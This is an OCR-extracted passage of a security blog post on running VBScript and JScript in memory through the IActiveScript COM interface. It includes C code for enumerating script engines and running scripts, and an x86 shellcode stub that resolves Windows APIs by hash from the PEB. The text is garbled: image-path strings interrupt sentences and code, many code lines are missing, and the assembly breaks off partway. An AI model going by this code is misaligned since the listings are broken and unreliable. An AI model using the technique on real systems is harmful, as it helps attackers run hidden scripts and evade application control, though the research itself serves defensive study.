Shellcode: In-Memory Execution of JavaScript, VBScript, JScript and XSL


A DynaCall() Function for Win32 was published in the August 1998 edition of Dr.Dobbs Journal. The author, Ton Plooy, provided a function in C that allows an interpreted language such as VBScript to call external DLL functions via a registered COMobject. An Automation Object for Dynamic DLL Calls published in November 1998 by Jeff Stong built upon this work to provide a more complete project which he called DynamicWrapper. In 2011, Blair Strang wrote a tool called vbsmem that used DynamicWrapper to execute shellcode from VBScript. DynamicWrapper was the source of inspiration for another tool calledDynamicWrapperX that appeared in 2008 and it too was used to execute shellcode from VBScript by Casey Smith.

The May 2019 update of Defender Application Control included a number of new policies, one of which is “COM object registration”. Microsoft states the purpose of this policy is to enforce “a built-in allow list of COM object registrations to reduce the risk introduced from certain powerful COM objects.” Are they referring to DynamicWrapper? Possibly, but what about unregistered COM objects? Robert Freeman/IBM demonstrated in 2007 that unregistered COM objects may be useful for obfuscation purposes. His Virus Bulletin presentation Novel code obfuscation with COM doesn’t provide any proof-of-concept code, but does demonstrate the potential to misuse the IActiveScript interface for Dynamic DLL calls without COM registration.

Windows Script Host (WSH)

WSH is an automation technology available since Windows 95 that was popular among developers prior to the release of the .NET Framework in 2002. It was primarily used for generation of dynamic content like Active Server Pages (ASP) written in JScript or VBScript. As .NET superseded this technology, much of the wisdom developers acquired about Active Scripting up until 2002 slowly disappeared from the internet. One post that was recommended quite frequently on developer forums is the Active X FAQ by Mark Baker, which answers most questions developers have about the IActiveScript interface.

Enumerating Script Engines

Can be performed in at least two ways.

  1. Each Class Identifier in HKEY_CLASSES_ROOT\CLSID\ that contains a subkey called OLEScript can be used with Windows Script Hosting.
  2. The Component Categories Manager can enumerate CLSID for category identifiers CATID_ActiveScript or CATID_ActiveScriptParse.

Below is a snippet of code for displaying active script engines using the second approach. See full version here.

voidDisplayScriptEngines(void) {
    ICatInformation *pci = NULL;
    IEnumCLSID      *pec = NULL;
    HRESULT         hr;
    CLSID           clsid;
    OLECHAR         *progID, *idStr, path[MAX_PATH], desc[MAX_PATH];
    // initialize COM
    // obtain component category manager for this machine
    hr = CoCreateInstance(
      0, CLSCTX_SERVER, IID_ICatInformation,
    if(hr == S_OK) {
      // obtain list of script engine parsers
      hr = pci->EnumClassesOfCategories(
        1, &CATID_ActiveScriptParse, 0, 0, &pec);
      if(hr == S_OK) {
        // print each CLSID and Program ID
        for(;;) {
          ZeroMemory(path, ARRAYSIZE(path));
          ZeroMemory(desc, ARRAYSIZE(desc));
          hr = pec->Next(1, &clsid, 0);
          if(hr != S_OK) {
          ProgIDFromCLSID(clsid, &progID);
          StringFromCLSID(clsid, &idStr);
          GetProgIDInfo(idStr, path, desc);
          wprintf(L"Description : %s\n", desc);
          wprintf(L"CLSID       : %s\n", idStr);
          wprintf(L"Program ID  : %s\n", progID);
          wprintf(L"Path of DLL : %s\n", path);The output of this code on a system with ActivePerl and ActivePython installed :

Description : JScript Language
CLSID       : {16D51579-A30B-4C8B-A276-0FF4DC41E755}
Program ID  : JScript
Path of DLL : C:\Windows\System32\jscript9.dll

Description : XML Script Engine
CLSID       : {989D1DC0-B162-11D1-B6EC-D27DDCF9A923}
Program ID  : XML
Path of DLL : C:\Windows\System32\msxml3.dll

Description : VB Script Language
CLSID       : {B54F3741-5B07-11CF-A4B0-00AA004A55E8}
Program ID  : VBScript
Path of DLL : C:\Windows\System32\vbscript.dllDescription : VBScript Language Encoding
CLSID       : {B54F3743-5B07-11CF-A4B0-00AA004A55E8}
Program ID  : VBScript.Encode
Path of DLL : C:\Windows\System32\vbscript.dll

Description : JScript Compact Profile (ECMA 327)
CLSID       : {CC5BBEC3-DB4A-4BED-828D-08D78EE3E1ED}
Program ID  : JScript.Compact
Path of DLL : C:\Windows\System32\jscript.dll

Description : Python ActiveX Scripting Engine
CLSID       : {DF630910-1C1D-11D0-AE36-8C0F5E000000}
Program ID  : Python.AXScript.2
Path of DLL : pythoncom36.dll

Description : JScript Language
CLSID       : {F414C260-6AC0-11CF-B6D1-00AA00BBBB58}
Program ID  : JScript
Path of DLL : C:\Windows\System32\jscript.dll

Description : JScript Language Encoding
CLSID       : {F414C262-6AC0-11CF-B6D1-00AA00BBBB58}
Program ID  : JScript.Encode
Path of DLL : C:\Windows\System32\jscript.dllDescription : PerlScript Language
CLSID       : {F8D77580-0F09-11D0-AA61-3C284E000000}
Program ID  : PerlScript
Path of DLL : C:\Perl64\bin\PerlSE.dll

The PerlScript and Python scripting engines are provided byActiveState. I would recommend using {16D51579-A30B-4C8B-A276-0FF4DC41E755} for JavaScript.

C Implementation of IActiveScript

During research into IActiveScript, I found COM in plain C, part 6 by Jeff Glatt to be helpful. The following code is the bare minimum required to execute VBS/JS files and does not support WSH objects. See here for the full source.

VOID run_script(PWCHAR lang, PCHAR script) {IActiveScriptParse     *parser;
    IActiveScript          *engine;
    MyIActiveScriptSite    mas;
    IActiveScriptSiteVtbl  vft;
    LPVOID                 cs;
    DWORD                  len;
    CLSID                  langId;
    HRESULT                hr;
    // 1. Initialize IActiveScript based on language
    CLSIDFromProgID(lang, &langId);
      &langId, 0, CLSCTX_INPROC_SERVER,
      &IID_IActiveScript, (void **)&engine);
    // 2. Query engine for script parser and initialize
        engine, &IID_IActiveScriptParse,
        (void **)&parser);
    // 3. Initialize IActiveScriptSite interface
    vft.QueryInterface      = (LPVOID)QueryInterface;
    vft.AddRef              = (LPVOID)AddRef;
    vft.Release             = (LPVOID)Release;
    vft.GetLCID             = (LPVOID)GetLCID;vft.GetItemInfo         = (LPVOID)GetItemInfo;
    vft.GetDocVersionString = (LPVOID)GetDocVersionString;
    vft.OnScriptTerminate   = (LPVOID)OnScriptTerminate;
    vft.OnStateChange       = (LPVOID)OnStateChange;vft.OnScriptError       = (LPVOID)OnScriptError;
    vft.OnEnterScript       = (LPVOID)OnEnterScript;vft.OnLeaveScript       = (LPVOID)OnLeaveScript;     = (IActiveScriptSiteVtbl*)&vft;mas.siteWnd.lpVtbl  = NULL;
    mas.m_cRef          = 0;
        engine, (IActiveScriptSite *)&mas);
    // 4. Convert script to unicode and execute
    len = MultiByteToWideChar(
      CP_ACP, 0, script, -1, NULL, 0);
    len *= sizeof(WCHAR);
    cs = malloc(len);
    len = MultiByteToWideChar(
      CP_ACP, 0, script, -1, cs, len);
         parser, cs, 0, 0, 0, 0, 0, 0, 0, 0);
         engine, SCRIPTSTATE_CONNECTED);
    // 5. cleanup

x86 Assembly

Just for illustration, here’s something similar in x86 assembly with some limitations imposed: The script should not exceed 64KB, the UTF-16 conversion only works with ANSI(latin alphabet) characters, and the language (VBS or JS) must be predefined before assembling. When declaring a local variable on the stack that exceeds 4KB, compilers such as GCC andMSVC insert code to perform stack probing which allows the kernel to expand the amount of stack memory available to a thread. There are of course compiler/linker switches to increase the reserved size if you wanted to prevent stack probing, but they are rarely used in practice. Each thread on Windows initially has 16KB of stack available by default as you can see by subtracting the value of StackLimit from StackBase found in the Thread Environment Block (TEB).

0:004> !teb
TEB at 000000f4018bf000
    ExceptionList:        0000000000000000
    StackBase:            000000f401c00000
    StackLimit:           000000f401bfc000
    SubSystemTib:         0000000000000000
    FiberData:            0000000000001e00
    ArbitraryUserPointer: 0000000000000000
    Self:                 000000f4018bf000
    EnvironmentPointer:   0000000000000000
    ClientId:             0000000000001940 . 000000000000067c
    RpcHandle:            0000000000000000
    Tls Storage:          0000000000000000
    PEB Address:          000000f40185a000
    LastErrorValue:       0
    LastStatusValue:      0
    Count Owned Locks:    0
    HardErrorMode:        0
0:004> ? 000000f401c00000 - 000000f401bfc000
Evaluate expression: 16384 = 00000000`00004000

The assembly code initially used VirtualAlloc to allocate enough space, but since this code is unlikely to be used for anything practical, the stack is used instead.; In-Memory execution of VBScript/JScript using 392 bytes of x86 assembly
; Odzhan

      %include ""
      %define VBS
      bits   32
      %ifndef BIN
        global run_scriptx
        global _run_scriptx
      pop    ecx             ; ecx = return address
      pop    eax             ; eax = script parameter
      push   ecx             ; save return address
      cdq                    ; edx = 0; allocate 128KB of stack.
      push   32              ; ecx = 32
      pop    ecx
      mov    dh, 16          ; edx = 4096
      pushad                 ; save all registers
      xchg   eax, esi        ; esi = script
      sub    esp, edx        ; subtract size of page
      test   [esp], esp      ; stack probe
      loop   alloc_mem       ; continue for 32 pages
      mov    edi, esp        ; edi = memory
      xor    eax, eax
utf8_to_utf16:               ; YMMV. Prone to a stack overflow.
      cmp    byte[esi], al   ; ? [esi] == 0
      movsb                  ; [edi] = [esi], edi++, esi++
      stosb                  ; [edi] = 0, edi++
      jnz    utf8_to_utf16   ;
      stosd                  ; store 4 nulls at end
      and    edi, -4         ; align by 4 bytes
      call   init_api        ; load address of invoke_api onto stack
      ; ***
      ; INPUT: eax contains hash of API
      ; Assumes DLL already loaded
      ; No support for resolving by ordinal or forward references
      ; ***push   TEB.ProcessEnvironmentBlock
      pop    ecx
      mov    eax, [fs:ecx]
      mov    eax, [eax+PEB.Ldr]
